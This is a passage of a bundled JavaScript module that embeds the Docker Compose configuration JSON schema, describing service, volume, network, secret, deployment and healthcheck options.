only."},"restart":{"type":"string","description":"Restart policy for the service container. Options include: \'no\', \'always\', \'on-failure\', and \'unless-stopped\'."},"runtime":{"type":"string","description":"Runtime to use for this container, e.g., \'runc\'."},"scale":{"type":["integer","string"],"description":"Number of containers to deploy for this service."},"security_opt":{"type":"array","items":{"type":"string"},"uniqueItems":true,"description":"Override the default labeling scheme for each container."},"shm_size":{"type":["number","string"],"description":"Size of /dev/shm. A string value can use suffix like \'2g\' for 2 gigabytes."},"secrets":{"$ref":"#/definitions/service_config_or_secret","description":"Grant access to Secrets on a per-service basis."},"sysctls":{"$ref":"#/definitions/list_or_dict","description":"Kernel parameters to set in the container. You can use either an array or a list."},"stdin_open":{"type":["boolean","string"],"description":"Keep STDIN open even if not attached."},"stop_grace_period":{"type":"string","description":"Time to wait for the container to stop gracefully before sending SIGKILL (e.g., \'1s\', \'1m30s\')."},"stop_signal":{"type":"string","description":"Signal to stop the container (e.g., \'SIGTERM\', \'SIGINT\')."},"storage_opt":{"type":"object","description":"Storage driver options for the container."},"tmpfs":{"$ref":"#/definitions/string_or_list","description":"Mount a temporary filesystem (tmpfs) into the container. Can be a single value or a list."},"tty":{"type":["boolean","string"],"description":"Allocate a pseudo-TTY to service container."},"ulimits":{"$ref":"#/definitions/ulimits","description":"Override the default ulimits for a container."},"use_api_socket":{"type":"boolean","description":"Bind mount Docker API socket and required auth."},"user":{"type":"string","description":"Username or UID to run the container process as."},"uts":{"type":"string","description":"UTS namespace to use. \'host\' shares the host\'s UTS namespace."},"userns_mode":{"type":"string","description":"User namespace to use. \'host\' shares the host\'s user namespace."},"volumes":{"type":"array","description":"Mount host paths or named volumes accessible to the container. Short syntax (VOLUME:CONTAINER_PATH[:MODE])","items":{"oneOf":[{"type":"string"},{"type":"object","required":["type"],"properties":{"type":{"type":"string","enum":["bind","volume","tmpfs","cluster","npipe","image"],"description":"The mount type: bind for mounting host directories, volume for named volumes, tmpfs for temporary filesystems, cluster for cluster volumes, npipe for named pipes, or image for mounting from an image."},"source":{"type":"string","description":"The source of the mount, a path on the host for a bind mount, a docker image reference for an image mount, or the name of a volume defined in the top-level volumes key. Not applicable for a tmpfs mount."},"target":{"type":"string","description":"The path in the container where the volume is mounted."},"read_only":{"type":["boolean","string"],"description":"Flag to set the volume as read-only."},"consistency":{"type":"string","description":"The consistency requirements for the mount. Available values are platform specific."},"bind":{"type":"object","description":"Configuration specific to bind mounts.","properties":{"propagation":{"type":"string","description":"The propagation mode for the bind mount: \'shared\', \'slave\', \'private\', \'rshared\', \'rslave\', or \'rprivate\'."},"create_host_path":{"type":["boolean","string"],"description":"Create the host path if it doesn\'t exist."},"recursive":{"type":"string","enum":["enabled","disabled","writable","readonly"],"description":"Recursively mount the source directory."},"selinux":{"type":"string","enum":["z","Z"],"description":"SELinux relabeling options: \'z\' for shared content, \'Z\' for private unshared content."}},"additionalProperties":false,"patternProperties":{"^x-":{}}},"volume":{"type":"object","description":"Configuration specific to volume mounts.","properties":{"labels":{"$ref":"#/definitions/list_or_dict","description":"Labels to apply to the volume."},"nocopy":{"type":["boolean","string"],"description":"Flag to disable copying of data from a container when a volume is created."},"subpath":{"type":"string","description":"Path within the volume to mount instead of the volume root."}},"additionalProperties":false,"patternProperties":{"^x-":{}}},"tmpfs":{"type":"object","description":"Configuration specific to tmpfs mounts.","properties":{"size":{"oneOf":[{"type":"integer","minimum":0},{"type":"string"}],"description":"Size of the tmpfs mount in bytes."},"mode":{"type":["number","string"],"description":"File mode of the tmpfs in octal."}},"additionalProperties":false,"patternProperties":{"^x-":{}}},"image":{"type":"object","description":"Configuration specific to image mounts.","properties":{"subpath":{"type":"string","description":"Path within the image to mount instead of the image root."}},"additionalProperties":false,"patternProperties":{"^x-":{}}}},"additionalProperties":false,"patternProperties":{"^x-":{}}}]},"uniqueItems":true},"volumes_from":{"type":"array","items":{"type":"string"},"uniqueItems":true,"description":"Mount volumes from another service or container. Optionally specify read-only access (ro) or read-write (rw)."},"working_dir":{"type":"string","description":"The working directory in which the entrypoint or command will be run"}},"patternProperties":{"^x-":{}},"additionalProperties":false},"healthcheck":{"type":"object","description":"Configuration options to determine whether the container is healthy.","properties":{"disable":{"type":["boolean","string"],"description":"Disable any container-specified healthcheck. Set to true to disable."},"interval":{"type":"string","description":"Time between running the check (e.g., \'1s\', \'1m30s\'). Default: 30s."},"retries":{"type":["number","string"],"description":"Number of consecutive failures needed to consider the container as unhealthy. Default: 3."},"test":{"oneOf":[{"type":"string"},{"type":"array","items":{"type":"string"}}],"description":"The test to perform to check container health. Can be a string or a list. The first item is either NONE, CMD, or CMD-SHELL. If it\'s CMD, the rest of the command is exec\'d. If it\'s CMD-SHELL, the rest is run in the shell."},"timeout":{"type":"string","description":"Maximum time to allow one check to run (e.g., \'1s\', \'1m30s\'). Default: 30s."},"start_period":{"type":"string","description":"Start period for the container to initialize before starting health-retries countdown (e.g., \'1s\', \'1m30s\'). Default: 0s."},"start_interval":{"type":"string","description":"Time between running the check during the start period (e.g., \'1s\', \'1m30s\'). Default: interval value."}},"additionalProperties":false,"patternProperties":{"^x-":{}}},"development":{"type":["object","null"],"description":"Development configuration for the service, used for development workflows.","properties":{"watch":{"type":"array","description":"Configure watch mode for the service, which monitors file changes and performs actions in response.","items":{"type":"object","required":["path","action"],"properties":{"ignore":{"$ref":"#/definitions/string_or_list","description":"Patterns to exclude from watching."},"include":{"$ref":"#/definitions/string_or_list","description":"Patterns to include in watching."},"path":{"type":"string","description":"Path to watch for changes."},"action":{"type":"string","enum":["rebuild","sync","restart","sync+restart","sync+exec"],"description":"Action to take when a change is detected: rebuild the container, sync files, restart the container, sync and restart, or sync and execute a command."},"target":{"type":"string","description":"Target path in the container for sync operations."},"exec":{"$ref":"#/definitions/service_hook","description":"Command to execute when a change is detected and action is sync+exec."}},"additionalProperties":false,"patternProperties":{"^x-":{}}}}},"additionalProperties":false,"patternProperties":{"^x-":{}}},"deployment":{"type":["object","null"],"description":"Deployment configuration for the service.","properties":{"mode":{"type":"string","description":"Deployment mode for the service: \'replicated\' (default) or \'global\'."},"endpoint_mode":{"type":"string","description":"Endpoint mode for the service: \'vip\' (default) or \'dnsrr\'."},"replicas":{"type":["integer","string"],"description":"Number of replicas of the service container to run."},"labels":{"$ref":"#/definitions/list_or_dict","description":"Labels to apply to the service."},"rollback_config":{"type":"object","description":"Configuration for rolling back a service update.","properties":{"parallelism":{"type":["integer","string"],"description":"The number of containers to rollback at a time. If set to 0, all containers rollback simultaneously."},"delay":{"type":"string","description":"The time to wait between each container group\'s rollback (e.g., \'1s\', \'1m30s\')."},"failure_action":{"type":"string","description":"Action to take if a rollback fails: \'continue\', \'pause\'."},"monitor":{"type":"string","description":"Duration to monitor each task for failures after it is created (e.g., \'1s\', \'1m30s\')."},"max_failure_ratio":{"type":["number","string"],"description":"Failure rate to tolerate during a rollback."},"order":{"type":"string","enum":["start-first","stop-first"],"description":"Order of operations during rollbacks: \'stop-first\' (default) or \'start-first\'."}},"additionalProperties":false,"patternProperties":{"^x-":{}}},"update_config":{"type":"object","description":"Configuration for updating a service.","properties":{"parallelism":{"type":["integer","string"],"description":"The number of containers to update at a time."},"delay":{"type":"string","description":"The time to wait between updating a group of containers (e.g., \'1s\', \'1m30s\')."},"failure_action":{"type":"string","description":"Action to take if an update fails: \'continue\', \'pause\', \'rollback\'."},"monitor":{"type":"string","description":"Duration to monitor each updated task for failures after it is created (e.g., \'1s\', \'1m30s\')."},"max_failure_ratio":{"type":["number","string"],"description":"Failure rate to tolerate during an update (0 to 1)."},"order":{"type":"string","enum":["start-first","stop-first"],"description":"Order of operations during updates: \'stop-first\' (default) or \'start-first\'."}},"additionalProperties":false,"patternProperties":{"^x-":{}}},"resources":{"type":"object","description":"Resource constraints and reservations for the service.","properties":{"limits":{"type":"object","description":"Resource limits for the service containers.","properties":{"cpus":{"type":["number","string"],"description":"Limit for how much of the available CPU resources, as number of cores, a container can use."},"memory":{"type":"string","description":"Limit on the amount of memory a container can allocate (e.g., \'1g\', \'1024m\')."},"pids":{"type":["integer","string"],"description":"Maximum number of PIDs available to the container."}},"additionalProperties":false,"patternProperties":{"^x-":{}}},"reservations":{"type":"object","description":"Resource reservations for the service containers.","properties":{"cpus":{"type":["number","string"],"description":"Reservation for how much of the available CPU resources, as number of cores, a container can use."},"memory":{"type":"string","description":"Reservation on the amount of memory a container can allocate (e.g., \'1g\', \'1024m\')."},"generic_resources":{"$ref":"#/definitions/generic_resources","description":"User-defined resources to reserve."},"devices":{"$ref":"#/definitions/devices","description":"Device reservations for the container."}},"additionalProperties":false,"patternProperties":{"^x-":{}}}},"additionalProperties":false,"patternProperties":{"^x-":{}}},"restart_policy":{"type":"object","description":"Restart policy for the service containers.","properties":{"condition":{"type":"string","description":"Condition for restarting the container: \'none\', \'on-failure\', \'any\'."},"delay":{"type":"string","description":"Delay between restart attempts (e.g., \'1s\', \'1m30s\')."},"max_attempts":{"type":["integer","string"],"description":"Maximum number of restart attempts before giving up."},"window":{"type":"string","description":"Time window used to evaluate the restart policy (e.g., \'1s\', \'1m30s\')."}},"additionalProperties":false,"patternProperties":{"^x-":{}}},"placement":{"type":"object","description":"Constraints and preferences for the platform to select a physical node to run service containers","properties":{"constraints":{"type":"array","items":{"type":"string"},"description":"Placement constraints for the service (e.g., \'node.role==manager\')."},"preferences":{"type":"array","description":"Placement preferences for the service.","items":{"type":"object","properties":{"spread":{"type":"string","description":"Spread tasks evenly across values of the specified node label."}},"additionalProperties":false,"patternProperties":{"^x-":{}}}},"max_replicas_per_node":{"type":["integer","string"],"description":"Maximum number of replicas of the service."}},"additionalProperties":false,"patternProperties":{"^x-":{}}}},"additionalProperties":false,"patternProperties":{"^x-":{}}},"generic_resources":{"type":"array","description":"User-defined resources for services, allowing services to reserve specialized hardware resources.","items":{"type":"object","properties":{"discrete_resource_spec":{"type":"object","description":"Specification for discrete (countable) resources.","properties":{"kind":{"type":"string","description":"Type of resource (e.g., \'GPU\', \'FPGA\', \'SSD\')."},"value":{"type":["number","string"],"description":"Number of resources of this kind to reserve."}},"additionalProperties":false,"patternProperties":{"^x-":{}}}},"additionalProperties":false,"patternProperties":{"^x-":{}}}},"devices":{"type":"array","description":"Device reservations for containers, allowing services to access specific hardware devices.","items":{"type":"object","properties":{"capabilities":{"$ref":"#/definitions/list_of_strings","description":"List of capabilities the device needs to have (e.g., \'gpu\', \'compute\', \'utility\')."},"count":{"type":["string","integer"],"description":"Number of devices of this type to reserve."},"device_ids":{"$ref":"#/definitions/list_of_strings","description":"List of specific device IDs to reserve."},"driver":{"type":"string","description":"Device driver to use (e.g., \'nvidia\')."},"options":{"$ref":"#/definitions/list_or_dict","description":"Driver-specific options for the device."}},"additionalProperties":false,"patternProperties":{"^x-":{}},"required":["capabilities"]}},"gpus":{"oneOf":[{"type":"string","enum":["all"],"description":"Use all available GPUs."},{"type":"array","description":"List of specific GPU devices to use.","items":{"type":"object","properties":{"capabilities":{"$ref":"#/definitions/list_of_strings","description":"List of capabilities the GPU needs to have (e.g., \'compute\', \'utility\')."},"count":{"type":["string","integer"],"description":"Number of GPUs to use."},"device_ids":{"$ref":"#/definitions/list_of_strings","description":"List of specific GPU device IDs to use."},"driver":{"type":"string","description":"GPU driver to use (e.g., \'nvidia\')."},"options":{"$ref":"#/definitions/list_or_dict","description":"Driver-specific options for the GPU."}}},"additionalProperties":false,"patternProperties":{"^x-":{}}}]},"include":{"description":"Compose application or sub-projects to be included.","oneOf":[{"type":"string"},{"type":"object","properties":{"path":{"$ref":"#/definitions/string_or_list","description":"Path to the Compose application or sub-project files to include."},"env_file":{"$ref":"#/definitions/string_or_list","description":"Path to the environment files to use to define default values when interpolating variables in the Compose files being parsed."},"project_directory":{"type":"string","description":"Path to resolve relative paths set in the Compose file"}},"additionalProperties":false}]},"network":{"type":["object","null"],"description":"Network configuration for the Compose application.","properties":{"name":{"type":"string","description":"Custom name for this network."},"driver":{"type":"string","description":"Specify which driver should be used for this network. Default is \'bridge\'."},"driver_opts":{"type":"object","description":"Specify driver-specific options defined as key/value pairs.","patternProperties":{"^.+$":{"type":["string","number"]}}},"ipam":{"type":"object","description":"Custom IP Address Management configuration for this network.","properties":{"driver":{"type":"string","description":"Custom IPAM driver, instead of the default."},"config":{"type":"array","description":"List of IPAM configuration blocks.","items":{"type":"object","properties":{"subnet":{"type":"string","description":"Subnet in CIDR format that represents a network segment."},"ip_range":{"type":"string","description":"Range of IPs from which to allocate container IPs."},"gateway":{"type":"string","description":"IPv4 or IPv6 gateway for the subnet."},"aux_addresses":{"type":"object","description":"Auxiliary IPv4 or IPv6 addresses used by Network driver.","additionalProperties":false,"patternProperties":{"^.+$":{"type":"string"}}}},"additionalProperties":false,"patternProperties":{"^x-":{}}}},"options":{"type":"object","description":"Driver-specific options for the IPAM driver.","additionalProperties":false,"patternProperties":{"^.+$":{"type":"string"}}}},"additionalProperties":false,"patternProperties":{"^x-":{}}},"external":{"type":["boolean","string","object"],"description":"Specifies that this network already exists and was created outside of Compose.","properties":{"name":{"deprecated":true,"type":"string","description":"Specifies the name of the external network. Deprecated: use the \'name\' property instead."}},"additionalProperties":false,"patternProperties":{"^x-":{}}},"internal":{"type":["boolean","string"],"description":"Create an externally isolated network."},"enable_ipv4":{"type":["boolean","string"],"description":"Enable IPv4 networking."},"enable_ipv6":{"type":["boolean","string"],"description":"Enable IPv6 networking."},"attachable":{"type":["boolean","string"],"description":"If true, standalone containers can attach to this network."},"labels":{"$ref":"#/definitions/list_or_dict","description":"Add metadata to the network using labels."}},"additionalProperties":false,"patternProperties":{"^x-":{}}},"volume":{"type":["object","null"],"description":"Volume configuration for the Compose application.","properties":{"name":{"type":"string","description":"Custom name for this volume."},"driver":{"type":"string","description":"Specify which volume driver should be used for this volume."},"driver_opts":{"type":"object","description":"Specify driver-specific options.","patternProperties":{"^.+$":{"type":["string","number"]}}},"external":{"type":["boolean","string","object"],"description":"Specifies that this volume already exists and was created outside of Compose.","properties":{"name":{"deprecated":true,"type":"string","description":"Specifies the name of the external volume. Deprecated: use the \'name\' property instead."}},"additionalProperties":false,"patternProperties":{"^x-":{}}},"labels":{"$ref":"#/definitions/list_or_dict","description":"Add metadata to the volume using labels."}},"additionalProperties":false,"patternProperties":{"^x-":{}}},"secret":{"type":"object","description":"Secret configuration for the Compose application.","properties":{"name":{"type":"string","description":"Custom name for this secret."},"environment":{"type":"string","description":"Name of an environment variable from which to get the secret value."},"file":{"type":"string","description":"Path to a file containing the secret value."},"external":{"type":["boolean","string","object"],"description":"Specifies that this secret already exists and was created outside of Compose.","properties":{"name":{"type":"string","description":"Specifies the name of the external secret."}}},"labels":{"$ref":"#/definitions/list_or_dict","description":"Add metadata to the secret using labels."},"driver":{"type":"string","description":"Specify which secret driver should be used for this secret."},"driver_opts":{"type":"object","description":"Specify driver-specific options.","patternProperties":{"^.+$":{"type":["string","number"]}}},"template_driver":{"type":"string","description":"Driver to use for templating the secret\'s value."}},"additionalProperties":false,"patternProperties":{"^x-":{}}},"config":{"type":"object","description":"Config configuration for the Compose application.","properties":{"name":{"type":"string","description":"Custom name for this config."},"content":{"type":"string","description":"Inline content of the config."},"environment":{"type":"string","description":"Name of an environment variable from which to get the config value."},"file":{"type":"string","description":"Path to a file containing the config value."},"external":{"type":["boolean","string","object"],"description":"Specifies that this config already exists and was created outside of Compose.","properties":{"name":{"deprecated":true,"type":"string","description":"Specifies the name of the external config. Deprecated: use the \'name\' property instead."}}},"labels":{"$ref":"#/definitions/list_or_dict","description":"Add metadata to the config using labels."},"template_driver":{"type":"string","description":"Driver to use for templating the config\'s value."}},"additionalProperties":false,"patternProperties":{"^x-":{}}},"model":{"type":"object","description":"Language Model for the Compose application.","properties":{"name":{"type":"string","description":"Custom name for this model."},"model":{"type":"string","description":"Language Model to run."},"context_size":{"type":"integer"},"runtime_flags":{"type":"array","items":{"type":"string"},"description":"Raw runtime flags to pass to the inference engine."}},"required":["model"],"additionalProperties":false,"patternProperties":{"^x-":{}}},"command":{"oneOf":[{"type":"null","description":"No command specified, use the container\'s default command."},{"type":"string","description":"Command as a string, which will be executed in a shell (e.g., \'/bin/sh -c\')."},{"type":"array","description":"Command as an array of strings, which will be executed directly without a shell.","items":{"type":"string","description":"Part of the command (executable or argument)."}}],"description":"Command to run in the container, which can be specified as a string (shell form) or array (exec form)."},"service_hook":{"type":"object","description":"Configuration for service lifecycle hooks, which are commands executed at specific points in a container\'s lifecycle.","properties":{"command":{"$ref":"#/definitions/command","description":"Command to execute as part of the hook."},"user":{"type":"string","description":"User to run the command as."},"privileged":{"type":["boolean","string"],"description":"Whether to run the command with extended privileges."},"working_dir":{"type":"string","description":"Working directory for the command."},"environment":{"$ref":"#/definitions/list_or_dict","description":"Environment variables for the command."}},"additionalProperties":false,"patternProperties":{"^x-":{}},"required":["command"]},"env_file":{"oneOf":[{"type":"string","description":"Path to a file containing environment variables."},{"type":"array","description":"List of paths to files containing environment variables.","items":{"oneOf":[{"type":"string","description":"Path to a file containing environment variables."},{"type":"object","description":"Detailed configuration for an environment file.","additionalProperties":false,"properties":{"path":{"type":"string","description":"Path to the environment file."},"format":{"type":"string","description":"Format attribute lets you to use an alternative file formats for env_file. When not set, env_file is parsed according to Compose rules."},"required":{"type":["boolean","string"],"default":true,"description":"Whether the file is required. If true and the file doesn\'t exist, an error will be raised."}},"required":["path"]}]}}]},"label_file":{"oneOf":[{"type":"string","description":"Path to a file containing Docker labels."},{"type":"array","description":"List of paths to files containing Docker labels.","items":{"type":"string","description":"Path to a file containing Docker labels."}}]},"string_or_list":{"oneOf":[{"type":"string","description":"A single string value."},{"$ref":"#/definitions/list_of_strings","description":"A list of string values."}],"description":"Either a single string or a list of strings."},"list_of_strings":{"type":"array","description":"A list of unique string values.","items":{"type":"string","description":"A string value in the list."},"uniqueItems":true},"list_or_dict":{"oneOf":[{"type":"object","description":"A dictionary mapping keys to values.","patternProperties":{".+":{"type":["string","number","boolean","null"],"description":"Value for the key, which can be a string, number, boolean, or null."}},"additionalProperties":false},{"type":"array","description":"A list of unique string values.","items":{"type":"string","description":"A string value in the list."},"uniqueItems":true}],"description":"Either a dictionary mapping keys to values, or a list of strings."},"extra_hosts":{"oneOf":[{"type":"object","description":"list mapping hostnames to IP addresses.","patternProperties":{".+":{"oneOf":[{"type":"string","description":"IP address for the hostname."},{"type":"array","description":"List of IP addresses for the hostname.","items":{"type":"string","description":"IP address for the hostname."},"uniqueItems":false}]}},"additionalProperties":false},{"type":"array","description":"List of host:IP mappings in the format \'hostname:IP\'.","items":{"type":"string","description":"Host:IP mapping in the format \'hostname:IP\'."},"uniqueItems":true}],"description":"Additional hostnames to be defined in the container\'s /etc/hosts file."},"blkio_limit":{"type":"object","description":"Block IO limit for a specific device.","properties":{"path":{"type":"string","description":"Path to the device (e.g., \'/dev/sda\')."},"rate":{"type":["integer","string"],"description":"Rate limit in bytes per second or IO operations per second."}},"additionalProperties":false},"blkio_weight":{"type":"object","description":"Block IO weight for a specific device.","properties":{"path":{"type":"string","description":"Path to the device (e.g., \'/dev/sda\')."},"weight":{"type":["integer","string"],"description":"Relative weight for the device, between 10 and 1000."}},"additionalProperties":false},"service_config_or_secret":{"type":"array","description":"Configuration for service configs or secrets, defining how they are mounted in the container.","items":{"oneOf":[{"type":"string","description":"Name of the config or secret to grant access to."},{"type":"object","description":"Detailed configuration for a config or secret.","properties":{"source":{"type":"string","description":"Name of the config or secret as defined in the top-level configs or secrets section."},"target":{"type":"string","description":"Path in the container where the config or secret will be mounted. Defaults to /<source> for configs and /run/secrets/<source> for secrets."},"uid":{"type":"string","description":"UID of the file in the container. Default is 0 (root)."},"gid":{"type":"string","description":"GID of the file in the container. Default is 0 (root)."},"mode":{"type":["number","string"],"description":"File permission mode inside the container, in octal. Default is 0444 for configs and 0400 for secrets."}},"additionalProperties":false,"patternProperties":{"^x-":{}}}]}},"ulimits":{"type":"object","description":"Container ulimit options, controlling resource limits for processes inside the container.","patternProperties":{"^[a-z]+$":{"oneOf":[{"type":["integer","string"],"description":"Single value for both soft and hard limits."},{"type":"object","description":"Separate soft and hard limits.","properties":{"hard":{"type":["integer","string"],"description":"Hard limit for the ulimit type. This is the maximum allowed value."},"soft":{"type":["integer","string"],"description":"Soft limit for the ulimit type. This is the value that\'s actually enforced."}},"required":["soft","hard"],"additionalProperties":false,"patternProperties":{"^x-":{}}}]}}}}}');

/***/ })

};
;